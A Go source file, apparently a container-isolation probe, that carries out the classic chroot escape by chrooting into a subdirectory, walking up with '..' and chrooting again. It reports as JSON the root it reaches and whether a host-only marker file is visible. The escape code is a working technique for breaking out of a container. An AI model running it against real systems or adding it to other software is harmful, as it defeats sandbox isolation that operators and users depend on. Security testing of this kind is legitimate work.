// breakout tries the classic chroot escape from inside a container: chroot
// into a subdirectory while keeping the working directory outside it, walk
// up with "..", and chroot to wherever that ends. It prints, as JSON, what
// the root it reached holds and whether the path given as its argument
// (a file that exists only outside the container) can be reached.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"syscall"
)

type report struct {
	Root   []string `json:"root"`
	Marker bool     `json:"marker"`
	Error  string   `json:"error,omitempty"`
}

func main() {
	var r report
	if err := escape(); err != nil {
		r.Error = err.Error()
	}
	entries, err := os.ReadDir("/")
	if err != nil && r.Error == "" {
		r.Error = err.Error()
	}
	for _, e := range entries {
		r.Root = append(r.Root, e.Name())
	}
	if len(os.Args) > 1 {
		_, err := os.Stat(os.Args[1])
		r.Marker = err == nil
	}
	json.NewEncoder(os.Stdout).Encode(r)
}

func escape() error {
	const jail = "/.breakout-jail"
	if err := os.MkdirAll(jail, 0o755); err != nil {
		return fmt.Errorf("mkdir: %w", err)
	}
	if err := syscall.Chroot(jail); err != nil {
		return fmt.Errorf("chroot %s: %w", jail, err)
	}
	for range 256 {
		if err := syscall.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return syscall.Chdir("/")
}
